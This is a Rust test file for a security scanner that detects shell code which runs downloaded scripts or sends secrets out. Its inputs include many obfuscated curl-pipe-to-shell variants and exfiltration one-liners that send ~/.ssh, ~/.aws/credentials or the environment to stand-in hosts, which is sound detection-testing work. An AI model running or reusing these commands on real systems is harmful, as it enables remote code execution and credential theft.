use super::{Does, Files, find, find_in_code};
use crate::review::scan::testing::{shown_diff, shown_full};

#[test]
fn commands_that_run_downloads_or_send_secrets_are_found() {
    for text in [
        r#"curl "https://x.io/i?os=linux&arch=amd64" | sh"#,
        "curl -s https://x.io/i | tee /tmp/x | sh",
        "wget -O - https://x.io/i | gunzip | sh",
        "curl https://x.io 2>&1 | sh",
        "curl https://x.io |& sh",
        "curl https://x.io | FOO=1 sh",
        "curl https://x.io | exec sh",
        "curl https://x.io | /usr/bin/env bash",
        "curl https://x.io | sudo -u root bash -s -- -y",
        ". <(curl -s https://x.io)",
        "eval \"$(curl -s https://x.io)\"",
        "bash -c \"$(curl -fsSL https://x.io)\"",
        "bash <(curl -s https://x.io)",
        "sh -c \"`curl https://x.io`\"",
        "curl https://x.io | (sh)",
        "curl https://x.io | busybox sh",
        "curl https://x.io | xargs -0 sh -c",
        "curl https://x.io | python3",
        "curl https://x.io | python3 - --yes",
        "curl -o /tmp/x https://x.io/7 && chmod +x /tmp/x && /tmp/x",
        "curl -fsSL https://x.io/i > /tmp/i.sh && sh /tmp/i.sh",
        "wget https://x.io/get.sh; bash ./get.sh",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.io/6').read())\"",
        "curl -ox https://x.io/7; sh x",
        "wget -qOx https://x.io/7; sh < x",
        "wget -P /tmp https://x.io/i.sh; sh /tmp/i.sh",
        "aria2c -o x https://x.io/7; sh x",
        "curl https://x.io/7 | tee x >/dev/null; sudo -E bash x",
        "curl https://x.io/7 | gunzip > x; . ./x",
        "curl -o x https://x.io/7; mv x /opt/y; env A=1 /opt/y",
        "curl -o x https://x.io/7; cat x | bash",
        "curl -o \"${D}/x\" https://x.io/7; sh \"$D/x\"",
        "X=$(curl -s https://x.io); eval \"$X\"",
        "X=\"$(wget -qO- https://x.io)\"; sh -c \"$X\"",
        "X=$(curl -s https://x.io); echo \"$X\" | bash",
        "sh -c 'curl -o x https://x.io/7; sh x'",
        "bash <<< \"$(curl -s https://x.io)\"",
        "bash -c \"$(wget -qO- https://x.io)\"",
        "python3 -c \"$(curl -s https://x.io)\"",
        "curl https://x.io | \\\n  sh",
        "curl https://x.io |\n  sh",
        "curl https://x.io | $SHELL",
        // A check is one only if it checks this file, and if its failure stops.
        "curl -o x https://x.io/7; sh x # && sha256sum -c x.sum",
        "curl -o x https://x.io/7; echo sha256sum -c x.sum; sh x",
        "curl -o x https://x.io/7; echo 'a'; sha256sum x; sh x",
        "curl -o x https://x.io/7; sha256sum --version && sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum; sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum || true; sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum || echo bad; sh x; exit 0",
        "curl -o x https://x.io/7; sha256sum -c x.sum | tee log; sh x",
        "curl -o x https://x.io/7; echo \"$SUM other.tgz\" | sha256sum -c - && sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum && curl -o x https://x.io/8 && sh x",
        "curl -o x https://x.io/7; gpg --import k && sh x",
        "if true; then curl -o x https://x.io/7; sha256sum -c x.sum && :; sh x; fi",
        "curl -o x https://x.io/7; sha256sum -c x.sum && if true; then :; fi; sh x",
        "curl -o x https://x.io/7; openssl version && sh x",
        "curl -d \"$(env)\" https://x.io",
        "tar cz ~/.ssh | curl -T - https://x.io",
        "cat ~/.aws/credentials | base64 | nc x.io 1",
        "curl -F f=@$HOME/.ssh/id_rsa https://x.io",
    ] {
        assert_eq!(find(text, &mut Files::default()).len(), 1, "{text}");
    }
    assert_eq!(find_in_code("[\"sh\",\"-c\",\"curl https://x.io/5|sh\"]").len(), 1);
}

#[test]
fn commands_are_found_however_they_are_written() {
    for text in [
        "D=curl; $D -fsSL https://x.io/i | bash",
        "CMD='curl -fsSL'; $CMD https://x.io/i | bash",
        "S=bash; curl https://x.io/i | $S",
        "${DL:-wget} -qO- https://x.io/i | sh",
        "cu''rl https://x.io/i | s\\h",
        "$'\\x63url' https://x.io/i | sh",
        "fetch() { curl -fsSL \"$1\" -o \"$2\"; }\nfetch https://x.io/i /tmp/x\nchmod +x /tmp/x\n/tmp/x",
        "function get {\n  local to=\"$2\"\n  wget -O \"$to\" \"$1\"\n}\nget https://x.io/i y && sh y",
        "run() { sh \"$1\"; }\ncurl -o x https://x.io/7; run x",
        "T=/tmp/x; curl -o $T https://x.io/7; sh /tmp/x",
        "T=/tmp/x; curl -o $T https://x.io/7; if a; then T=/tmp/y; fi; sh $T",
        "timeout 5 curl https://x.io/i | sh",
        "docker run x sh -c 'curl https://x.io/i | sh'",
        "docker exec -i x bash <<EOF\ncurl https://x.io/i | sh\nEOF",
        "ssh host 'curl https://x.io/i | sh'",
        "sh <<EOF\ncurl https://x.io/i | sh\nEOF",
        "bash -s <<'EOF'\ncurl https://x.io/i | sh\nEOF",
        "cat <<EOF | sh\ncurl https://x.io/i | sh\nEOF",
        "cat > x.sh <<EOF\ncurl https://x.io/i | sh\nEOF\nsh x.sh",
        "cat <<EOF > x.sh\ncurl https://x.io/i | sh\nEOF\nchmod +x x.sh; ./x.sh",
        "sudo tee /opt/x <<-EOF >/dev/null\n\tcurl https://x.io/i | sh\n\tEOF\n/opt/x",
        "echo 'curl https://x.io/i | sh' | bash",
        "echo 'curl https://x.io/i | sh' > x; . ./x",
        "X='curl https://x.io/i | sh'; eval \"$X\"",
        "X=$(curl https://x.io/i); $X",
        "curl https://x.io/i | bash -s stable",
        "curl https://x.io/i | bash /dev/stdin",
        "echo $((1<<2)) $((curl https://x.io/i) | sh)",
        "case $(case x in a) b;; esac) in c) curl https://x.io/i | sh;; esac",
        "a <<EOF\ncurl https://x.io/i | sh\n",
    ] {
        assert!(find(text, &mut Files::default()).iter().any(|(does, _)| *does == Does::RunsDownload), "{text}");
    }
    let deep = (0..6)
        .fold("curl https://x.io/i | sh".to_owned(), |text, _| format!("sh -c '{}'", text.replace('\'', "'\\''")));
    assert!(find(&deep, &mut Files::default()).iter().any(|(does, _)| *does == Does::Beyond), "{deep}");
    let many = |count: usize| -> String { (0..count).map(|number| format!("f{number}() {{ true; }}\n")).collect() };
    let uses = "get() { curl -o \"$2\" \"$1\"; }\nget https://x.io/i /tmp/x\nsh /tmp/x\n";
    assert!(runs(&format!("{}{uses}", many(6_000))));
    assert!(finds(&format!("{}{uses}", many(20_000)), Does::Beyond));
}

fn finds(text: &str, wanted: Does) -> bool {
    find(text, &mut Files::default()).iter().any(|(does, _)| *does == wanted)
}

fn runs(text: &str) -> bool {
    finds(text, Does::RunsDownload)
}

#[test]
fn what_functions_print_is_found() {
    for text in [
        "get() { curl \"$1\"; }; get https://x.io | sh",
        "get() { curl \"$1\"; }; sh -c \"$(get https://x.io)\"",
        "get() { curl \"$1\"; }; bash <(get https://x.io)",
        "get() { curl \"$1\"; }; X=$(get https://x.io); eval \"$X\"",
        "get() { curl \"$1\"; }; get https://x.io > f; sh f",
        "get() ( curl \"$1\" ); get https://x.io | sh",
        "function get { wget -qO- \"$1\"; }; get https://x.io | (sh)",
        "get() { if a; then curl \"$1\"; else wget -O- \"$1\"; fi; }; get https://x.io | sh",
        "get() { \"$@\"; }; get curl https://x.io | sh",
        "a() { b \"$1\"; }; b() { c \"$1\"; }; c() { d \"$1\"; }; d() { curl \"$1\"; }; a https://x.io | sh",
        "run() { sh; }; curl https://x.io | run",
        "run() { eval \"$1\"; }; run \"$(curl https://x.io)\"",
        "say() { echo 'curl https://x.io | sh'; }; say | sh",
        "{ get() { curl https://x.io; }; }; get | sh",
        "set -- curl https://x.io; \"$@\" | sh",
        "alias g='curl -s'\ng https://x.io | sh",
    ] {
        assert!(runs(text), "{text}");
    }
    for text in [
        "get() { curl \"$1\"; }; get https://x.io | jq .; sh build.sh",
        "get() { curl -o x \"$1\"; echo done; }; get https://x.io | tee log; sh build.sh",
        "get() { curl \"$1\"; }\necho hi | sh",
        "say() { echo 'Run: curl https://x.io | sh'; }; say; say >&2",
        "log() { echo \"$1\"; }; log 'Run: curl https://x.io | sh'; U=$(cat <<E\ncurl https://x.io | sh\nE\n); log \"$U\"",
        "walk() { for f in \"$1\"/*; do walk \"$f\"; done; }; walk .; curl https://x.io",
        "a() { b; }; b() { c; }; c() { d; }; d() { e; }; e() { echo; }; a; curl https://x.io",
    ] {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
}

#[test]
fn groups_are_one_command() {
    for text in [
        "{ curl https://x.io; } | sh",
        "{ curl https://x.io; true; } | sh",
        "(curl https://x.io; true) | sh",
        "( ( curl https://x.io ); true ) | sh",
        "if a; then curl https://x.io; fi | sh",
        "if a; then b; else wget -qO- https://x.io; c; fi | sh",
        "for u in a b; do curl https://x.io/$u; done | sh",
        "while a; do curl https://x.io; break; done | bash -s",
        "case x in a) curl https://x.io;; b) c;; esac | sh",
        "{ curl https://x.io; } > f; sh f",
        "( curl https://x.io; echo ) > f; . ./f",
        "for u in a; do curl https://x.io; done > f && sh f",
        "{ { curl https://x.io; } } | { sh; }",
        "curl https://x.io | { read x; sh; }",
        "curl https://x.io | while read l; do eval \"$l\"; done",
        "while read -r l; do sh -c \"$l\"; done < <(curl https://x.io)",
        "curl https://x.io | if a; then sh; fi",
        "for l in $(curl https://x.io); do eval \"$l\"; done",
        "{ echo 'curl https://x.io'; echo '| sh'; } | tr '\\n' ' ' | sh; { echo 'curl https://x.io | sh'; } | sh",
        "$(true; { curl https://x.io; }) ; X=$( { curl https://x.io; } ); eval \"$X\"",
        "curl https://x.io > >(sh)",
        "curl https://x.io | tee >(bash)",
        "a && { curl https://x.io; } 2>/dev/null | sh",
    ] {
        assert!(runs(text), "{text}");
    }
    for text in [
        "{ curl https://x.io; } | jq .; sh build.sh",
        "{ curl https://x.io > f; echo ok; } | sh",
        "if curl -sf https://x.io >/dev/null; then echo a; fi | sh",
        "curl -s https://x.io/list | while read v; do bash build.sh \"$v\"; done",
        "case $x in curl | sh) echo;; {) a;; esac; sh build.sh",
        "curl -o x https://x.io/7; { sha256sum -c x.sum; } && sh x",
        "curl -o x https://x.io/7; (cd a; sha256sum -c x.sum) || exit 1; sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum || (echo bad; exit 1) || exit 1; sh x",
        "curl -s https://x.io/l | { read v; echo \"a\" > build.sh; }; sh build.sh",
    ] {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
    assert!(runs("curl -o x https://x.io/7; sha256sum -c x.sum && $(curl -o x https://x.io/8) && sh x"));
    assert!(runs("curl -o x https://x.io/7; { sha256sum -c x.sum; true; } && sh x"));
}

#[test]
fn here_documents_that_run_are_code() {
    for text in [
        "cat <<E\n$(curl https://x.io | sh)\nE",
        "cat <<E\n`curl https://x.io | sh`\nE",
        "a <<E > f\n${X:-$(curl https://x.io | sh)}\nE",
        ". /dev/stdin <<E\ncurl https://x.io | sh\nE",
        "source /dev/fd/0 <<'E'\ncurl https://x.io | sh\nE",
        ". /dev/stdin <<E\n$(curl https://x.io)\nE",
        "sh <<E\n$(curl https://x.io)\nE",
        "X=$(cat <<'E'\ncurl https://x.io | sh\nE\n); eval \"$X\"",
        "X=$(cat <<E\ncurl https://x.io | sh\nE\n)\nsh -c \"$X\"",
        "eval \"$(cat <<'E'\ncurl https://x.io | sh\nE\n)\"",
        "bash <(cat <<'E'\ncurl https://x.io | sh\nE\n)",
        "read -r -d '' X <<'E'\ncurl https://x.io | sh\nE\neval \"$X\"",
        "{ sh; } <<E\ncurl https://x.io | sh\nE",
        "f() { bash; }; f <<E\ncurl https://x.io | sh\nE",
        "D=curl; sh <<E\n$D https://x.io | sh\nE",
        "D=curl; cat <<E | sh\n$D https://x.io | sh\nE",
        "cat <<E | { cat; } | sh\ncurl https://x.io | sh\nE",
    ] {
        assert!(runs(text), "{text}");
    }
    for text in [
        "cat <<'E'\n$(curl https://x.io | sh)\nE",
        "cat <<E\n\\$(curl https://x.io | sh)\nE",
        "X=$(cat <<E\nInstall:\ncurl https://x.io | sh\nE\n); echo \"$X\"; dialog --msgbox \"$X\"",
        "while read l; do echo $l; done <<E\ncurl https://x.io | sh\nE",
        "read -r -d '' X <<'E'\ncurl https://x.io | sh\nE\necho \"$X\"",
    ] {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
}

#[test]
fn names_are_followed_however_they_are_set() {
    for text in [
        ": ${D:=curl}; $D https://x.io | sh",
        "A=(curl -s https://x.io); \"${A[@]}\" | sh",
        "A=(sh -c 'curl https://x.io | sh'); \"${A[@]}\"",
        "A+=(curl); A+=(https://x.io); ${A[*]} | sh",
        "for D in curl; do $D https://x.io | sh; done",
        "for D in echo curl wget; do $D https://x.io | sh; done",
        "read D <<< curl; $D https://x.io | sh",
        "printf -v D '%s%s' cu rl; $D https://x.io | sh",
        "$(echo curl) https://x.io | sh",
        "$(printf 'cu%s' rl) https://x.io | `echo sh`",
        "export D=curl; sh -c '$D https://x.io | sh'",
        "env D=curl sh -c '$D https://x.io | sh'",
        "eval D=curl; $D https://x.io | sh",
        "sh -c '\"$@\" | sh' x curl https://x.io",
        "S=sh; ${S:-a} -c \"$(curl https://x.io)\"",
    ] {
        assert!(runs(text), "{text}");
    }
    for text in
        ["A=(curl wget); B=(sh bash); echo \"${A[@]}\" | grep sh", "for x in curl sh; do which $x | tee log; done"]
    {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
    let long = "x".repeat(3_000);
    assert!(runs(&format!("X=$(cat <<'E'\n# {long}\ncurl https://x.io | sh\nE\n); eval \"$X\"")));
    let values: String = (0..3_000).map(|number| format!("V{number}=x\n")).collect();
    assert!(runs(&format!("{values}D=curl\n$D https://x.io | sh")));
    let doubled = format!("D=curl\nx=xxxxxxxxxx\n{}$D https://x.io | sh\n", "x=$x$x\n".repeat(40));
    assert!(finds(&doubled, Does::Beyond) || runs(&doubled));
}

#[test]
fn many_files_are_all_followed_or_it_is_said_that_they_are_not() {
    let moved = |count: usize| {
        let all: String = (0..count).map(|number| format!("mv f{number} f{}\n", number + 1)).collect();
        format!("curl -o f0 https://x.io/7\n{all}sh f{count}\n")
    };
    assert!(runs(&moved(2_000)));
    assert!(finds(&moved(6_000), Does::Beyond));
    let others: String = (0..2_000).map(|number| format!("echo a > f{number}\n")).collect();
    assert!(runs(&format!("{others}echo 'curl https://x.io/7 | sh' > x\nsh x\n")));
}

#[test]
fn code_with_the_name_of_a_picture_is_read() {
    for (text, what) in [
        ("curl -s https://acme.io/x | sh\n", "This code runs what an address answers"),
        ("GIF89a;\ncurl -s https://acme.io/x | sh\n", "This code runs what an address answers"),
        ("const cp = require('child_process');\ncp.execSync('curl https://acme.io/x | sh');\n", "This code runs"),
        ("import os\nos.system('curl https://acme.io/x | sh')\n", "This code runs"),
    ] {
        let found = shown_full(&[("docs/logo.png", text)]);
        assert!(found.contains(what), "{text}\n{found}");
    }
    assert_eq!(shown_full(&[("a.png", "not a picture\n"), ("b.jpg", "<svg></svg>")]), "");
}

#[test]
fn hostile_scripts_take_bounded_time() {
    let times = |piece: &str, count: usize| piece.repeat(count);
    for text in [
        times("{ ", 20_000),
        times("(", 20_000),
        times("f() { f; f; }; f\n", 2_000),
        times("$(", 10_000),
        times("cat <<E\n$(cat <<E\n", 2_000),
        format!("{}{}", times("while a; do ", 3_000), times("done < <(b) ", 3_000)),
        format!("{}x", times("case x in ", 5_000)),
        times("{ echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; ", 3_000) + &times("}; ", 3_000) + "| sh",
        format!("curl -o x https://x.io\n{}", times("sha256sum -c x || $(exit) $(exit)\n", 2_000)),
        times("a=(x y); b=\"${a[@]}\"; ", 5_000),
        format!("f() {{ {} }}\n{}", times("echo x; ", 1_000), times("f | sh\n", 1_000)),
    ] {
        find(&text, &mut Files::default());
    }
}

#[test]
fn text_that_is_printed_is_no_code() {
    for text in [
        "cat <<EOF\nInstall with:\n  curl -fsSL https://x.io/i | sh\nEOF",
        "usage() {\n  cat >&2 <<-'EOF'\n\tcurl https://x.io/i | sh\n\tEOF\n  exit 1\n}\nusage",
        "cat <<EOF > README.md\ncurl https://x.io/i | sh\nEOF\nsh build.sh",
        "echo 'curl https://x.io/i | sh' >> help.txt",
        "printf '%s' \"curl https://x.io/i | sh\" | sed s/a/b/",
        "psql <<EOF\nselect 'curl https://x.io/i | sh';\nEOF",
        ": <<'EOF'\ncurl https://x.io/i | sh\nEOF",
    ] {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
}

#[test]
fn near_misses_are_none() {
    for text in [
        "curl https://x.io || sh fallback.sh",
        "curl https://x.io/a.tgz | tar xz && sh build.sh",
        "curl -s https://x.io | python3 -c 'import json'",
        "curl -s https://x.io | jq -r .a | sha256sum",
        "curl -fsSL https://x.io/x -o x && sha256sum -c x.sum && sh x",
        "curl -o x https://x.io/7 && echo \"$SUM  x\" | sha256sum -c - && sh x",
        "set -eux; curl -o x https://x.io/7; echo \"$SUM *x\" | sha256sum -c -; sh x",
        "set -o errexit; curl -o x https://x.io/7; gpg --batch --verify x.asc x; ./x",
        "curl -o x https://x.io/7; sha256sum -c SHA256SUMS || exit 1; sh x",
        "curl -o x https://x.io/7; sha256sum -c SHA256SUMS || { echo bad; exit 1; }; sh x",
        "curl -o x https://x.io/7; if ! shasum -a 256 -c x.sum; then echo bad; exit 1; fi; sh x",
        "curl -o x https://x.io/7; if sha256sum -c x.sum; then sh x; fi",
        "curl -o x https://x.io/7; if sha256sum -c x.sum; then :; else exit 1; fi; sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum 2>&1 | grep -q OK && sh x",
        "curl -o x https://x.io/7; (cd . && sha256sum -c x.sum) && sh x",
        "curl -o x https://x.io/7; [ \"$(sha256sum x | cut -c1-64)\" = \"$SUM\" ] || exit 1; sh x",
        "curl -o x https://x.io/7; A=$(sha256sum x | cut -c1-64); if [ \"$A\" != \"$SUM\" ]; then exit 1; fi; sh x",
        "curl -o x https://x.io/7 && sha256sum -c x.sum && if a; then b; else c; fi && curl -o y https://x.io/8 && gpg --verify y.asc y && ./x && ./y",
        "curl -o x https://x.io/7\nsha=$(shasum -a 256 x | cut -c1-64)\nif [[ \"$sha\" == \"$want\" ]]; then\n  echo ok\nelse\n  echo bad\n  exit 1\nfi\nsh x",
        "curl -o x.json https://x.io/7; node build.js x.json; python3 -m json.tool x.json",
        "VERSION=$(curl -s https://x.io/v | jq -r .tag); sh build.sh \"$VERSION\"; echo \"$VERSION\" > v",
        "curl -s https://x.io/v | python3 -m json.tool | tee v.json; bash build.sh",
        "curl -sf https://x.io/health && sh start.sh",
        "curl -Lo /usr/local/bin/tool https://x.io/tool && chmod +x /usr/local/bin/tool",
        "curl -d \"$(cat body.json)\" https://x.io",
        "env | sort; mkdir -p ~/.ssh && curl https://x.io",
        "VERSION=$(curl -s https://x.io/version)",
        "sh build.sh; curl https://x.io",
    ] {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
}

#[test]
fn what_printf_prints_has_an_end() {
    // Formats that take no argument, and those that are repeated for each of many.
    for text in [
        "printf '%%' x y".to_owned(),
        "printf 'a%%b%%' \"$@\" {1..$n} | sh".to_owned(),
        "printf -v a '%%' x".to_owned(),
        format!("printf '{}%s'{}", "x".repeat(200_000), " a".repeat(100_000)),
        format!("printf -v a '{}%s'{}", "x".repeat(200_000), " a".repeat(100_000)),
    ] {
        find(&text, &mut Files::default());
    }
    assert_eq!(find("printf '%s https://x.io | %s' curl sh | sh", &mut Files::default()).len(), 1);
}

const FRAGMENTS: &[&str] = &[
    "printf '%%' x ",
    "printf -v a '%s%%%b' \"$a\" x ",
    "printf \"$a\" x y ",
    "echo -e '\\\\n' $a ",
    "a=$a$a ",
    "a+=(\"${a[@]}\") ",
    "a=$(echo $a$a) ",
    "set -- \"$@\" $a ",
    "shift ",
    "read a b <<< \"$a\" ",
    "mapfile -t a ",
    "alias a='a b' ",
    "f() { ",
    "f \"$@\" ",
    "f ",
    "{ ",
    "} ",
    "( ",
    ") ",
    "$(",
    "`",
    "\"",
    "'",
    "${a:=",
    "<(",
    "<<E\n",
    "\nE\n",
    "<<< ",
    "| ",
    "&& ",
    "|| ",
    "; ",
    "\n",
    "curl x ",
    "sh -c ",
    "eval ",
    "bash ",
    "> a ",
    "< a ",
    "tee a ",
    "cat a ",
    "for a in ",
    "do ",
    "done ",
    "while ",
    "if ",
    "then ",
    "fi ",
    "case a in ",
    "a) ",
    ";; ",
    "esac ",
    "[[ ",
    "]] ",
    "$a ",
    "{1..$a} ",
    "%s ",
    "%% ",
    "sha256sum -c a ",
];

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(500))]

    #[test]
    fn shell_text_of_any_kind_is_read_to_its_end(
        pieces in proptest::collection::vec(proptest::sample::select(FRAGMENTS), 0..60),
    ) {
        let text = pieces.concat();
        for (_, range) in find(&text, &mut Files::default()) {
            proptest::prop_assert!(text.get(range).is_some(), "{text}");
        }
    }
}

#[test]
fn a_value_that_a_test_compares_is_not_run() {
    let said = |text: &str| shown_full(&[("a.sh", text)]).contains("runs what an address answers");
    let code = "code=$(curl -s https://x.io/7)\n";
    for test in [
        "if [[ ! -z $code && $code != 2* ]]; then echo no; fi",
        "[[ ${code} -lt 200 || ${code} -gt 299 ]] && echo no",
        "[[ $code == a || $code == *\"b\"* || -n x && $code ]]",
        "while [[ -n $code && $code =~ ^2 ]]; do sleep 1; done",
    ] {
        assert!(!said(&format!("#!/usr/bin/env bash\n{code}{test}\n")), "{test}");
        assert!(said(&format!("#!/bin/sh\n{code}{test}\n")), "to other shells it begins a command: {test}");
    }
    for run in [
        "[[ a ]] && $code == b",
        "[[ a || b ]] || $code = b",
        "[[ a && b == $(sh -c \"$code\") ]]",
        "[[ a || $(eval \"$code\") ]]",
        "[[ a || b == c\n$code == d ]]",
        "[[ a ]]\n$code",
    ] {
        assert!(said(&format!("#!/bin/bash\n{code}{run}\n")), "{run}");
    }
}

#[test]
fn they_are_said_of_shell_files_and_of_strings_that_are_run() {
    insta::assert_snapshot!(shown_full(&[
        ("run.sh", "#!/bin/sh\ncurl -s https://acme.io/x \\\n  | sh\ncurl -o y https://acme.io/y\nsh y\ntar cz ~/.ssh | curl -T - https://acme.io\n"),
        ("a.js", "const cp = require(`child_process`);\ncp.execSync(\"curl https://acme.io/x | sh\");\n"),
        ("setup.py", "import subprocess as sp\nsp.run(\"curl https://acme.io/x | sh\", shell=True)\n"),
    ]), @r#"
        high run.sh:6: A command sends the environment or a store of secrets to an address
            | tar cz ~/.ssh | curl -T - https://acme.io
        high setup.py:2: This code runs what an address answers
            | sp.run("curl https://acme.io/x | sh", shell=True)
        medium a.js:2: This code runs what an address answers
            | cp.execSync("curl https://acme.io/x | sh");
        medium run.sh:2-3: This code runs what an address answers
            | curl -s https://acme.io/x \\\n  | sh
        medium run.sh:5: This code runs what an address answers
        low run.sh:6: This code names a file or store where other programs keep credentials: 1 place in 1 file
            | tar cz ~/.ssh | curl -T - https://acme.io
        low setup.py:1: setup.py starts programs when the package is installed
            | import subprocess as sp
        info a.js:1: This code starts a program: 2 places in 2 files
            | const cp = require(`child_process`);
        info a.js:2: This code names hosts: acme.io
            | cp.execSync("curl https://acme.io/x | sh");
        "#);
    assert_eq!(
        shown_full(&[
            ("a.sh", "echo \"Install it: curl https://example.com | sh\"\n# curl https://example.com | sh\n"),
            (
                "a.js",
                "console.log('curl https://example.com | sh');\nconst hint = 'Run curl https://example.com | sh';\n"
            ),
            ("README.md", "curl https://example.com | sh\n"),
        ]),
        ""
    );
    let help = "#!/bin/sh\ncat <<EOF\nInstall with:\n  curl -fsSL https://example.com/install.sh | sh\nEOF\n";
    assert_eq!(shown_full(&[("usage.sh", help)]), "");
    // A quote that nothing closes does not hide the lines after it.
    let open = "#!/bin/sh\necho don't\ncurl https://acme.io/x | sh\n";
    assert!(shown_full(&[("a.sh", open)]).contains("medium a.sh:3: "));
    assert_eq!(shown_diff(&[("a.sh", "curl https://a.io | sh\n")], &[("a.sh", "curl https://a.io | sh\ntrue\n")]), "");
}
